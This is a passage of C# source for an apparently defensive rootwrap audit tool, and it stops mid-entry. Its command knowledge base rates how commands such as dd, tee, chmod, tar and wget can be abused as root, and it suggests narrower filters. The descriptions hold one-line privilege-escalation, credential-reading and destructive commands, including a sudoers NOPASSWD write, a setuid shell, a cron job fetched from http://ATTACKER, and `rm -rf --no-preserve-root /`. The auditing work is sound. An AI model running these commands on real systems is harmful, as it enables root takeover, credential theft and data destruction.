using Rootwrap.Capabilities;

namespace Rootwrap.Audit;

/// <summary>What a command can do as root when the caller picks its arguments.</summary>
public enum Power
{
    /// <summary>Nothing a caller couldn't do without root.</summary>
    Harmless,
    /// <summary>Reveals something (names, sizes, hashes), no contents.</summary>
    Disclose,
    /// <summary>Reads any file.</summary>
    FileRead,
    /// <summary>Writes any file.</summary>
    FileWrite,
    /// <summary>Changes owners or modes of any file.</summary>
    Ownership,
    /// <summary>Runs a program or code of the caller's choice.</summary>
    CodeExec,
    /// <summary>Runs what a configuration file of the caller's choice says.</summary>
    ConfigExec,
    /// <summary>Runs its arguments as another command.</summary>
    Chaining,
    /// <summary>Destroys data or filesystems.</summary>
    Destroy,
    /// <summary>Rewires networking, storage or services; stops processes.</summary>
    Admin,
}

/// <summary>
/// One command of the knowledge base: what it can do as root with free arguments (and the
/// one-line way), what one free operand can do when the options are fixed, the least
/// capabilities for its ordinary use in OpenStack (null: no suggestion, measure it), and
/// the narrower filter to write instead.
/// </summary>
public sealed record CommandInfo
{
    public required string Name { get; init; }
    public required Power Power { get; init; }
    /// <summary>Severity when every argument is the caller's (a CommandFilter).</summary>
    public required Severity Free { get; init; }
    /// <summary>The one-line way, for <see cref="Free"/>.</summary>
    public required string How { get; init; }
    /// <summary>Severity when the options are fixed and one operand (a path, a name) is free.</summary>
    public Severity? Operand { get; init; }
    public string? OperandHow { get; init; }
    /// <summary>Severity of one free word that can be an option (starts with '-').</summary>
    public Severity? OptionWord { get; init; }
    /// <summary>What one free option word does, when that differs from <see cref="How"/>.</summary>
    public string? OptionHow { get; init; }
    /// <summary>Options whose value (the next argument) is a harmless value, not a file or a program.</summary>
    public string[] HarmlessOptionValues { get; init; } = [];
    /// <summary>Options whose value (the next argument) is a program it runs (<c>find -exec</c>, <c>rsync -e</c>).</summary>
    public string[] ProgramOptions { get; init; } = [];
    /// <summary>Its operands are files: a bare name resolves in the caller's working directory.</summary>
    public bool TakesPaths { get; init; }
    /// <summary>Runs its operands as a command (nice, env, ip netns exec...).</summary>
    public bool Chains { get; init; }
    /// <summary>A shell: the word after -c is a script.</summary>
    public bool Shell { get; init; }
    /// <summary>Capability names, comma-separated; "" for none; null for "no suggestion".</summary>
    public string? Caps { get; init; }
    public string CapsWhy { get; init; } = "";
    public required string Fix { get; init; }

    public Severity OperandSeverity => Operand ?? Free;
    public string OperandText => OperandHow ?? How;
    public Severity OptionSeverity => OptionWord ?? Free;
    public string OptionText => OptionHow ?? How;

    public CapabilitySet? Capabilities =>
        Caps is null ? null : CapabilitySet.TryParse(Caps, out var s, out _) ? s : null;

    /// <summary>Root-owned files are uid 0's own: capabilities don't stop a uid-0 write.</summary>
    public bool WritesFiles => Power is Power.FileWrite or Power.Ownership or Power.Destroy;
}

/// <summary>The curated knowledge base, by command basename.</summary>
public static class CommandKnowledge
{
    private const string ConfineWrites =
        "capabilities can't stop a uid-0 write: narrow the filter, and confine it with [Paths] (SPEC 4b)";

    private static readonly Dictionary<string, CommandInfo> Table = Build();

    public static CommandInfo? Lookup(string execPath)
    {
        var name = Posix.PosixPath.BaseName(execPath);
        return Table.GetValueOrDefault(name);
    }

    public static IEnumerable<CommandInfo> All => Table.Values.Distinct();

    /// <summary>The options a text of the knowledge base cites (<c>--config</c>, <c>-delete</c>).</summary>
    public static IReadOnlyList<string> CitedOptions(string text) =>
        System.Text.RegularExpressions.Regex.Matches(text, @"(?<=[\s`'(])--?[A-Za-z][A-Za-z0-9_-]*")
            .Select(m => m.Value).Distinct().ToList();

    /// <summary>
    /// The clauses of <paramref name="text"/> (split at "; ") whose every cited option some
    /// argument pattern admits (as a word, <c>--opt=VALUE</c> or <c>-oVALUE</c>); null when none
    /// is left. A finding names no option the filter doesn't admit.
    /// </summary>
    public static string? AdmittedClauses(string text, IEnumerable<PatternFacts> args)
    {
        var list = args.ToList();
        bool Admitted(string c) => list.Any(p => p.Admits(c) || p.Admits(c + "=/tmp/x") || (!c.StartsWith("--", StringComparison.Ordinal) && p.Admits(c + "/tmp/x")));
        var kept = Clauses(text).Where(clause => CitedOptions(clause).All(Admitted)).ToList();
        return kept.Count == 0 ? null : string.Join("; ", kept);
    }

    /// <summary>"; "-separated clauses, not splitting inside a `quoted command`.</summary>
    private static IEnumerable<string> Clauses(string text)
    {
        int start = 0;
        bool quoted = false;
        for (int k = 0; k < text.Length; k++)
        {
            if (text[k] == '`') quoted = !quoted;
            else if (!quoted && text[k] == ';' && k + 1 < text.Length && text[k + 1] == ' ')
            {
                yield return text[start..k];
                start = k + 2;
            }
        }
        yield return text[start..];
    }

    private static readonly string[] ReadOnlyVerbs = ["show", "list", "ls", "lst"];
    /// <summary>ip and tc options that only change how the output looks.</summary>
    private static readonly string[] DisplayOptions =
        ["-4", "-6", "-0", "-o", "-oneline", "-d", "-details", "-s", "-stats", "-statistics", "-j", "-json", "-p", "-pretty",
         "-br", "-brief", "-c", "-color", "-t", "-timestamp", "-h", "-human", "-r", "-resolve", "-a", "-all"];
    private static readonly string[] NetnsOptions = ["-n", "-netns"];
    /// <summary>Each spelling ip and tc accept for <c>-batch FILE</c> (and <c>-force</c>, which goes with it).</summary>
    private static readonly string[] BatchOptions =
        ["-b", "-ba", "-bat", "-batc", "-batch", "--b", "--ba", "--bat", "--batc", "--batch", "-force", "--force"];
    private static readonly string[] VrfWords = ["v", "vr", "vrf"];
    private static readonly string[] NetnsWords = ["net", "netn", "netns"];
    private static readonly string[] ExecWords = ["e", "ex", "exe", "exec"];

    /// <summary>
    /// What <paramref name="kb"/> can do once a filter fixes some of its arguments:
    /// <paramref name="args"/> are the patterns of the command word (index 0) and each argument,
    /// the last repeated when <paramref name="variadic"/> (an [Arguments] <c>...</c>).
    /// <c>tc qdisc show dev .+</c> shows and changes nothing; <c>ip link set .*</c> rewires
    /// networking but runs no program (only <c>ip netns exec</c>, <c>ip vrf exec</c> and
    /// <c>ip -batch</c> do, and IpFilter refuses the first, <paramref name="ipFilter"/>);
    /// <c>find .* -delete</c> deletes what the caller names.
    /// </summary>
    public static CommandInfo Narrow(CommandInfo kb, IReadOnlyList<PatternFacts> args, bool variadic = false, bool ipFilter = false) =>
        kb.Name switch
        {
            "ip" or "tc" => NarrowIpRoute2(kb, args, variadic, ipFilter),
            "find" => NarrowFind(kb, args, variadic),
            _ => kb,
        };

    private static PatternFacts? At(IReadOnlyList<PatternFacts> args, int k, bool variadic) =>
        k < args.Count ? args[k] : variadic && args.Count > 1 ? args[^1] : null;

    private static CommandInfo NarrowIpRoute2(CommandInfo kb, IReadOnlyList<PatternFacts> args, bool variadic, bool ipFilter)
    {
        var cmd = kb.Name;
        bool Any(PatternFacts? p, string[] words) => p is not null && words.Any(p.Admits);
        bool netnsOption = false;
        int j = 1;
        for (; At(args, j, variadic) is { } p; j++)
        {
            if (p.Strings() is { } w && w.All(x => x.StartsWith('-')))
            {
                // A fixed global option: harmless unless it names a batch file of commands.
                if (w.Any(x => Array.IndexOf(BatchOptions, x) >= 0)) return kb;
                if (w.Any(x => Array.IndexOf(NetnsOptions, x) >= 0)) { netnsOption = true; j++; }
                else if (!w.All(x => Array.IndexOf(DisplayOptions, x) >= 0)) return kb;
                continue;
            }
            break;
        }
        var obj = At(args, j, variadic);
        var verb = At(args, j + 1, variadic);
        if (obj is null) return kb;
        if (obj.Strings() is { Count: > 0 } objects)
        {
            if (cmd == "ip" && objects.Any(o => Array.IndexOf(VrfWords, o) >= 0 || (!ipFilter && Array.IndexOf(NetnsWords, o) >= 0)) && Any(verb, ExecWords))
                return kb;
            if (verb is not null && verb.OnlyAdmits(ReadOnlyVerbs))
            {
                var said = $"{cmd} {objects[0]} {verb.Strings()![0]}";
                return kb with
                {
                    Power = Power.Harmless, Free = Severity.Info, Operand = null, OptionWord = null, OptionHow = null, Chains = false, TakesPaths = false,
                    How = $"`{said}` only shows the host's configuration and changes nothing" + (netnsOption ? "" : "; any user can read it"),
                    Fix = netnsOption ? "nothing to narrow: it only reads" : $"drop the filter and run `{said}` as the service user",
                };
            }
        }
        else
        {
            // A free word where the global options or the object go: -batch, vrf exec, netns exec,
            // here or after more options of the caller's.
            int limit = variadic ? j + 3 : args.Count - 1;
            for (int k = j; k <= limit && At(args, k, variadic) is { } p; k++)
            {
                if (Any(p, BatchOptions)) return kb;
                if (cmd == "ip" && (Any(p, VrfWords) || (!ipFilter && Any(p, NetnsWords))) && Any(At(args, k + 1, variadic), ExecWords)) return kb;
                if (!p.OptionInjection) break; // no option: this word is the object
            }
        }
        if (cmd != "ip") return kb;
        return kb with
        {
            Power = Power.Admin, Free = Severity.High, Chains = false, TakesPaths = false, Operand = Severity.High,
            How = "`ip` with these arguments rewires the host's networking (`ip route replace default via ATTACKER`, `ip link set eth0 down`), but runs no program: the filter admits no `netns exec`, `vrf exec` or `-batch`",
            OperandHow = "an address, route, link or namespace of the caller's choice: traffic of the host and its guests goes where the caller says",
        };
    }

    private static readonly string[] FindDelete = ["-delete"];

    private static CommandInfo NarrowFind(CommandInfo kb, IReadOnlyList<PatternFacts> args, bool variadic)
    {
        bool delete = false;
        for (int k = 1; k < args.Count; k++) delete |= args[k].OnlyAdmits(FindDelete);
        if (!delete) return kb;
        return kb with
        {
            Power = Power.Destroy, Free = Severity.High, Operand = Severity.High,
            How = "`-delete` is fixed: `find / -mindepth 1 -delete` deletes every file of the host",
            OperandHow = "`-delete` is fixed, so it deletes every file under the folder the caller names (`find / -mindepth 1 -delete` empties the filesystem)",
            Fix = @"fix the start folder: `find: RegExpFilter, find, root, find, /var/lib/SERVICE/[a-z0-9-]+, -mindepth, 1, -delete`, and confine it with [Paths] (SPEC 4b)",
        };
    }

    private static Dictionary<string, CommandInfo> Build()
    {
        var t = new Dictionary<string, CommandInfo>(StringComparer.Ordinal);
        void Add(CommandInfo c, params string[] aliases)
        {
            t[c.Name] = c;
            foreach (var a in aliases) t[a] = c with { Name = a };
        }

        // ---- arbitrary file write ----
        Add(new() { Name = "dd", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`dd of=/etc/sudoers.d/x` writes the caller's stdin (`nova ALL=(ALL) NOPASSWD: ALL`) into any file",
            OperandHow = "an `of=` of the caller's choice writes any file (`of=/etc/sudoers.d/x`)",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "opens volume files and devices owned by other users",
            Fix = @"fix the operands, to the service's own devices: `dd: RegExpFilter, dd, root, dd, if=/dev/zero, of=/dev/mapper/cinder--volumes-volume--[0-9a-f-]+, bs=1M, count=\d+, oflag=direct`; " + ConfineWrites });
        Add(new() { Name = "tee", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`echo 'nova ALL=(ALL) NOPASSWD: ALL' | tee /etc/sudoers.d/x` writes any file",
            OperandHow = "writes the caller's stdin into the file the operand names",
            Caps = "", CapsWhy = "writes files uid 0 owns (/etc, /sys, /proc/sys): owner permission suffices",
            Fix = @"name the file: `tee: RegExpFilter, tee, root, tee, -a, /sys/class/net/[a-z0-9-]+/brport/hairpin_mode`; " + ConfineWrites });
        Add(new() { Name = "cp", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`cp /tmp/x /etc/cron.d/x` installs a root cron job (and `cp /etc/shadow /tmp/` reads any file)",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "copies files in the service's folders (with -p, add CAP_CHOWN and CAP_FOWNER)",
            Fix = "`cp: PathFilter, cp, root, /var/lib/SERVICE/mnt/, /var/lib/SERVICE/mnt/` (realpath under fixed folders); " + ConfineWrites });
        Add(new() { Name = "mv", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`mv /tmp/x /etc/cron.d/x` installs a root cron job",
            Caps = "CAP_DAC_OVERRIDE, CAP_FOWNER, CAP_CHOWN", CapsWhy = "renames files of other users, in sticky folders, across filesystems keeping owners",
            Fix = "`mv: PathFilter, mv, root, /var/lib/SERVICE/, /var/lib/SERVICE/`; " + ConfineWrites });
        Add(new() { Name = "install", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`install -m 4755 /bin/sh /tmp/rootsh` makes a setuid-root shell",
            Caps = "CAP_DAC_OVERRIDE, CAP_CHOWN, CAP_FOWNER", CapsWhy = "creates files with chosen owners and modes",
            Fix = "`install: PathFilter, install, root, -m, 0644, /usr/share/SERVICE/, /etc/SERVICE/`; " + ConfineWrites });
        Add(new() { Name = "ln", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`ln -sf /tmp/libs /etc/ld.so.preload` makes every program, setuid ones too, load the caller's library",
            Caps = "", CapsWhy = "creates links in folders uid 0 owns",
            Fix = "`ln: PathFilter, ln, root, -s, /var/lib/SERVICE/, /var/lib/SERVICE/`; " + ConfineWrites });
        Add(new() { Name = "truncate", Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
            How = "`truncate -s0 /etc/passwd` empties any file",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "resizes volume files owned by other users",
            Fix = @"`truncate: RegExpFilter, truncate, root, truncate, -s, \d+[KMG]?, /var/lib/SERVICE/[a-z0-9-]+`; " + ConfineWrites });
        Add(new() { Name = "qemu-img", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`qemu-img convert -f raw -O raw /tmp/x /etc/cron.d/x` writes any file (and reads any: `qemu-img convert /etc/shadow /tmp/y`)",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "reads images and writes volumes owned by other users",
            Fix = "one filter per use with fixed folders, e.g. `qemu-img_info: RegExpFilter, qemu-img, root, qemu-img, info, --output=json, --force-share, /var/lib/SERVICE/[a-z0-9/-]+`; " + ConfineWrites });
        Add(new() { Name = "curl", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`curl -o /etc/cron.d/x file:///tmp/x` writes any file (`file:///etc/shadow` reads any)",
            Caps = "", CapsWhy = "a download needs no privilege: run it as the service user",
            Fix = "drop the filter: the service can download as itself" });
        Add(new() { Name = "wget", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`wget -O /etc/cron.d/x http://ATTACKER/x` writes any file",
            Caps = "", CapsWhy = "a download needs no privilege",
            Fix = "drop the filter: the service can download as itself" });
        Add(new() { Name = "rsync", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`rsync -e /tmp/x a:b /tmp/c` runs the caller's program as the remote shell; `rsync /tmp/x /etc/cron.d/` writes any file",
            OptionWord = Severity.Critical, ProgramOptions = ["-e", "--rsh"],
            Caps = "CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_CHOWN, CAP_FOWNER, CAP_FSETID", CapsWhy = "copies trees of other users keeping owners and modes (-a)",
            Fix = @"`rsync: RegExpFilter, rsync, root, rsync, -a, --delete, /var/lib/SERVICE/mnt/[a-z0-9-]+/, /var/lib/SERVICE/mnt/[a-z0-9-]+/` (and refuse -e); " + ConfineWrites });
        Add(new() { Name = "tar", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/tmp/x` runs any program; `--to-command` too",
            ProgramOptions = ["--to-command", "--use-compress-program", "-I", "--rsh-command", "--info-script", "--new-volume-script", "-F"],
            Caps = "CAP_DAC_READ_SEARCH, CAP_DAC_OVERRIDE, CAP_CHOWN, CAP_FOWNER", CapsWhy = "archives and restores trees of other users with owners",
            Fix = "a RegExpFilter with fixed flags (`-C`, `-xf`) and folders; " + ConfineWrites });
        Add(new() { Name = "cpio", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`cpio -idm -D / < x.cpio` writes any file",
            Caps = "CAP_DAC_OVERRIDE, CAP_CHOWN, CAP_FOWNER", CapsWhy = "restores files with owners",
            Fix = ConfineWrites });
        Add(new() { Name = "sed", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`sed -n '1e /tmp/x' /etc/hostname` runs any program (GNU `e`); `sed -i` rewrites any file",
            Caps = "", CapsWhy = "edits files uid 0 owns",
            Fix = @"fix the script and the file: `sed: RegExpFilter, sed, root, sed, -i, /^export /d, /etc/exports.d/[a-z0-9-]+\.exports`; " + ConfineWrites });
        Add(new() { Name = "awk", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`awk 'BEGIN{system(\"/tmp/x\")}'` runs any program",
            Caps = "", CapsWhy = "",
            Fix = "replace with code in the service, or a RegExpFilter with a fixed program" }, "gawk", "mawk");

        // ---- file read ----
        foreach (var name in new[] { "cat", "head", "tail", "tac", "nl", "strings", "od", "xxd", "base64", "grep", "egrep", "fgrep", "diff", "cut", "sort", "uniq", "less", "more", "zcat" })
        {
            Add(new() { Name = name, Power = Power.FileRead, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name} /etc/shadow` reads any file (password hashes, service credentials, private keys)",
                Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "reads files of other users",
                Fix = $"a ReadFileFilter per file (`{name}_x: ReadFileFilter, /etc/iscsi/initiatorname.iscsi`) or `{name}: RegExpFilter, {name}, root, {name}, /var/lib/SERVICE/[a-z0-9-]+/[a-z0-9.-]+`" });
        }
        foreach (var name in new[] { "gzip", "gunzip", "qzip", "bzip2", "xz", "zstd", "lz4", "pigz" })
        {
            Add(new() { Name = name, Power = Power.FileRead, Free = Severity.Critical, TakesPaths = true,
                How = $"`{name} -c /etc/shadow` prints any file (compressed); `{name} -d -c x > y` is the caller's own redirect, but `{name} FILE` replaces any file",
                Caps = "CAP_DAC_OVERRIDE", CapsWhy = "compresses and replaces files of other users",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, -c, /var/lib/SERVICE/backup/[a-z0-9-]+`" });
        }
        foreach (var name in new[] { "sha256sum", "sha1sum", "md5sum", "sha512sum", "cksum", "b2sum" })
        {
            Add(new() { Name = name, Power = Power.Disclose, Free = Severity.Low, TakesPaths = true,
                How = $"`{name} /etc/shadow` hashes any file: confirms a guess of its content",
                Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "reads files of other users",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, /var/lib/SERVICE/[a-z0-9/-]+`" });
        }
        Add(new() { Name = "ls", Power = Power.Disclose, Free = Severity.Low, TakesPaths = true,
            How = "`ls -la /root/.ssh` lists any folder",
            Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "lists folders of other users",
            Fix = "`ls: RegExpFilter, ls, root, ls, /var/lib/SERVICE/[a-z0-9/-]+`" });
        Add(new() { Name = "stat", Power = Power.Disclose, Free = Severity.Low, TakesPaths = true,
            How = "`stat /root/.ssh/id_rsa` shows metadata of any file",
            Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "looks into folders of other users",
            Fix = "`stat: RegExpFilter, stat, root, stat, -c, %s, /var/lib/SERVICE/[a-z0-9/-]+`" });
        Add(new() { Name = "du", Power = Power.Disclose, Free = Severity.Low, TakesPaths = true,
            How = "`du -a /root` lists and sizes any tree",
            Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "walks folders of other users",
            Fix = "`du: RegExpFilter, du, root, du, -sb, /var/lib/SERVICE/[a-z0-9/-]+`" });
        Add(new() { Name = "df", Power = Power.Harmless, Free = Severity.Info,
            How = "`df` reports filesystem usage, which any user can read",
            Caps = "", CapsWhy = "statfs needs no privilege",
            Fix = "drop the filter and run df as the service user" });
        Add(new() { Name = "find", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`find /etc -maxdepth 0 -exec /tmp/x ;` runs any program (and `-fprintf` writes any file)",
            Operand = Severity.Low, OperandHow = "lists the names of files under any folder",
            OptionWord = Severity.Medium, OptionHow = "`-delete` in its place deletes what the fixed expression selects, under the caller's working directory",
            ProgramOptions = ["-exec", "-execdir", "-ok", "-okdir"],
            HarmlessOptionValues = ["-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-amin", "-mmin", "-cmin", "-atime", "-mtime", "-ctime",
                "-maxdepth", "-mindepth", "-inum", "-type", "-size", "-user", "-group", "-perm", "-newer", "-printf", "-links"],
            Caps = "CAP_DAC_READ_SEARCH", CapsWhy = "walks folders of other users",
            Fix = @"fix every flag: `find: RegExpFilter, find, root, find, /var/lib/SERVICE/[a-z0-9/-]+, -maxdepth, \d+, -name, [a-z0-9.*-]+`" });
        Add(new() { Name = "xargs", Power = Power.Chaining, Free = Severity.Critical, Chains = true,
            How = "`xargs -a /dev/null /tmp/x` runs any program",
            Caps = "", CapsWhy = "", Fix = "drop the filter" });

        // ---- ownership and modes ----
        Add(new() { Name = "chown", Power = Power.Ownership, Free = Severity.Critical, TakesPaths = true,
            How = "`chown nova /etc/passwd` lets the caller give itself uid 0",
            OperandHow = "changes the owner of any file the operand names (`/etc/passwd`)",
            Caps = "CAP_CHOWN", CapsWhy = "changes owners (the one thing chown does)",
            Fix = "`chown: PathFilter, chown, root, nova, /var/lib/nova/instances/` (owner fixed, path under a folder); " + ConfineWrites });
        Add(new() { Name = "chgrp", Power = Power.Ownership, Free = Severity.High, TakesPaths = true,
            How = "`chgrp nova /etc/shadow` gives the caller's group read access to password hashes",
            Caps = "CAP_CHOWN", CapsWhy = "changes groups of files",
            Fix = "`chgrp: PathFilter, chgrp, root, nova, /var/lib/nova/instances/`; " + ConfineWrites });
        Add(new() { Name = "chmod", Power = Power.Ownership, Free = Severity.Critical, TakesPaths = true,
            How = "`chmod 666 /etc/shadow` (or `chmod u+s` on a root-owned copy of a shell) gives root",
            OperandHow = "changes the mode of any file the operand names",
            Caps = "CAP_FOWNER", CapsWhy = "changes modes of files of other users",
            Fix = "`chmod: PathFilter, chmod, root, 0644, /var/lib/SERVICE/`; " + ConfineWrites });
        Add(new() { Name = "setfacl", Power = Power.Ownership, Free = Severity.Critical, TakesPaths = true,
            How = "`setfacl -m u:nova:rw /etc/shadow` gives the caller write access to any file",
            Caps = "CAP_FOWNER", CapsWhy = "sets ACLs on files of other users",
            Fix = "`setfacl: PathFilter, setfacl, root, -m, u:qemu:rw, /var/lib/SERVICE/`" });
        Add(new() { Name = "chattr", Power = Power.Ownership, Free = Severity.High, TakesPaths = true,
            How = "`chattr +i /etc/resolv.conf` / `-i` on any file: pins or unpins anything",
            Caps = "CAP_LINUX_IMMUTABLE, CAP_FOWNER", CapsWhy = "sets immutable/append-only flags",
            Fix = "`chattr: PathFilter, chattr, root, +i, /var/lib/SERVICE/`" });
        Add(new() { Name = "touch", Power = Power.FileWrite, Free = Severity.Medium, TakesPaths = true,
            How = "`touch /etc/nologin` creates empty files anywhere (and locks every user out)",
            Caps = "CAP_DAC_OVERRIDE, CAP_FOWNER", CapsWhy = "creates files in and sets times on folders of other users",
            Fix = "`touch: PathFilter, touch, root, /var/lib/SERVICE/`" });
        Add(new() { Name = "mkdir", Power = Power.FileWrite, Free = Severity.High, TakesPaths = true,
            How = "`mkdir -m 777 /etc/systemd/system/ssh.service.d`: a drop-in folder the caller fills runs as root at the next restart",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "creates folders under folders of other users",
            Fix = "`mkdir: PathFilter, mkdir, root, -p, /var/lib/SERVICE/mnt/`" });
        Add(new() { Name = "mktemp", Power = Power.FileWrite, Free = Severity.Low, TakesPaths = true,
            How = "`mktemp -p /etc x.XXXX` creates root-owned files in any folder",
            Caps = "", CapsWhy = "creates files in folders uid 0 owns",
            Fix = "drop the filter: the service can make its own temporary files" });

        // ---- destruction ----
        Add(new() { Name = "rm", Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
            How = "`rm -rf --no-preserve-root /` removes any file",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "removes files from the service's folders (write and search permission there)",
            Fix = "`rm: PathFilter, rm, root, -f, /var/lib/SERVICE/`; " + ConfineWrites });
        Add(new() { Name = "rmdir", Power = Power.Destroy, Free = Severity.Low, TakesPaths = true,
            How = "`rmdir /var/lib/x` removes empty folders anywhere",
            Caps = "CAP_DAC_OVERRIDE", CapsWhy = "removes folders in folders of other users",
            Fix = "`rmdir: PathFilter, rmdir, root, /var/lib/SERVICE/mnt/`" });
        foreach (var name in new[] { "shred", "wipefs", "blkdiscard" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
                How = $"`{name} /dev/sda` destroys any disk",
                Caps = "", CapsWhy = "block devices belong to uid 0",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, /dev/mapper/[a-z0-9-]+`" });
        foreach (var name in new[] { "mkfs", "mkfs.ext4", "mkfs.ext3", "mkfs.ext2", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mke2fs", "mkswap" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
                How = $"`{name} /dev/sda1` destroys any filesystem",
                Caps = "CAP_DAC_OVERRIDE", CapsWhy = "formats block devices (uid 0 owns them) or image files in the service's folders",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, /dev/mapper/[a-z0-9-]+`" });
        foreach (var name in new[] { "fsck", "e2fsck", "fsck.ext4", "xfs_repair" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
                How = $"`{name} -y /dev/sda1` on a mounted filesystem corrupts it",
                Caps = "", CapsWhy = "checks block devices uid 0 owns",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, -y, -f, /dev/mapper/[a-z0-9-]+`" });
        Add(new() { Name = "resize2fs", Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
            How = "`resize2fs /dev/sda1 1M` shrinks any filesystem",
            Caps = "CAP_SYS_RESOURCE", CapsWhy = "online resize (EXT4_IOC_RESIZE_FS) needs it",
            Fix = @"`resize2fs: RegExpFilter, resize2fs, root, resize2fs, /dev/mapper/[a-z0-9-]+`" });
        Add(new() { Name = "tune2fs", Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
            How = "`tune2fs -O ^has_journal /dev/sda1` or `-E mount_opts=` changes any filesystem",
            Caps = "", CapsWhy = "writes superblocks of devices uid 0 owns",
            Fix = @"`tune2fs: RegExpFilter, tune2fs, root, tune2fs, -m, \d+, /dev/mapper/[a-z0-9-]+`" });
        Add(new() { Name = "debugfs", Power = Power.FileWrite, Free = Severity.Critical, TakesPaths = true,
            How = "`debugfs -w -R 'sif /etc/shadow uid 1000' /dev/sda1` rewrites any inode",
            Caps = "", CapsWhy = "", Fix = "drop the filter" });
        foreach (var name in new[] { "parted", "sgdisk", "sfdisk", "fdisk", "gdisk" })
            Add(new() { Name = name, Power = Power.Destroy, Free = Severity.High, TakesPaths = true,
                How = $"`{name}` rewrites the partition table of any disk",
                Caps = "CAP_SYS_ADMIN", CapsWhy = "re-reads partition tables (BLKRRPART)",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, -s, /dev/[a-z]+, print`" });

        // ---- mounts, block storage ----
        Add(new() { Name = "mount", Power = Power.CodeExec, Free = Severity.Critical, TakesPaths = true,
            How = "`mount --bind /tmp/mine /etc/sudoers.d` puts the caller's files where root trusts them",
            OperandHow = "mounts over any folder the operand names (`/etc/sudoers.d`)",
            Caps = "CAP_SYS_ADMIN, CAP_NET_BIND_SERVICE", CapsWhy = "mount(2) needs CAP_SYS_ADMIN; NFS and GlusterFS clients bind a privileged source port",
            Fix = @"fix type and folders: `mount: RegExpFilter, mount, root, mount, -t, nfs, [0-9.]+:/[a-z0-9/_-]+, /var/lib/SERVICE/mnt/[0-9a-f]+`" });
        Add(new() { Name = "umount", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "`umount -l /var/lib/nova/instances` pulls any filesystem from under its users and uncovers what it hid",
            Caps = "CAP_SYS_ADMIN", CapsWhy = "umount(2) needs it",
            Fix = "`umount: RegExpFilter, umount, root, umount, /var/lib/SERVICE/mnt/[0-9a-f]+`" });
        foreach (var name in new[] { "mount.quobyte", "pstorage-mount", "mount.nfs", "mount.glusterfs", "mount.cifs" })
            Add(new() { Name = name, Power = Power.CodeExec, Free = Severity.High, TakesPaths = true,
                How = $"`{name} SOURCE /etc` mounts a remote filesystem over any folder",
                Caps = "CAP_SYS_ADMIN", CapsWhy = "mount(2) needs it",
                Fix = $"`{name}: RegExpFilter, {name}, root, {name}, [a-z0-9.:/-]+, /var/lib/SERVICE/mnt/[0-9a-f]+`" });
        Add(new() { Name = "umount.quobyte", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "unmounts any filesystem", Caps = "CAP_SYS_ADMIN", CapsWhy = "umount(2) needs it",
            Fix = "`umount.quobyte: RegExpFilter, umount.quobyte, root, umount.quobyte, /var/lib/SERVICE/mnt/[0-9a-f]+`" });
        Add(new() { Name = "pstorage", Power = Power.Admin, Free = Severity.High,
            How = "administers the whole Virtuozzo Storage cluster", Caps = "", CapsWhy = "a network client reading the root-owned /etc/pstorage",
            Fix = "one RegExpFilter per subcommand the driver uses" });
        Add(new() { Name = "ploop", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "`ploop mount -m /etc IMAGE` mounts any image over any folder", Caps = "CAP_SYS_ADMIN, CAP_MKNOD, CAP_DAC_OVERRIDE", CapsWhy = "mounts images, makes its device nodes, images in the service's folders",
            Fix = "one RegExpFilter per subcommand with fixed folders" });
        Add(new() { Name = "losetup", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
            How = "`losetup -f /etc/shadow` exposes any file as a block device", Caps = "CAP_SYS_ADMIN", CapsWhy = "loop ioctls",
            Fix = "`losetup: RegExpFilter, losetup, root, losetup, --show, -f, /var/lib/SERVICE/[a-z0-9-]+`" });
        Add(new() { Name = "kpartx", Power = Power.Admin, Free = Severity.High, TakesPaths = true,
